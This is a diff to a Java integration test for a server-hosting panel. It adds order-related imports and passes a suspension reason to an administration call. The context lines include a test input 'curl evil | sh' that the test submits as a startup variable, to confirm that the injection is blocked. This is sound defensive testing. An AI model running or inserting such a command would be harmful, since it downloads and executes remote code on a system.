@@ -11,6 +11,8 @@ import io.pteroca.panel.catalog.PriceKind;
 import io.pteroca.panel.catalog.PriceTerms;
 import io.pteroca.panel.catalog.ProductDefinition;
 import io.pteroca.panel.catalog.ProductView;
+import io.pteroca.panel.order.Checkout;
+import io.pteroca.panel.order.OrderForm;
 import io.pteroca.panel.support.IntegrationTest;
 import io.pteroca.panel.support.TestPterodactyl;
 import io.pteroca.panel.support.WebSession;
@@ -173,7 +175,7 @@ class StartupTabTest extends IntegrationTest {
         editorWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "STARTUP", "value", "curl evil | sh"));
         assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(startup);
 
-        administration.suspend(id, owner.id());
+        administration.suspend(id, "Checking a complaint", owner.id());
         ownerWeb.get("/servers/" + id + "/startup");
         int updates = calls(UPDATE_VARIABLE);
         ownerWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "1.8"));
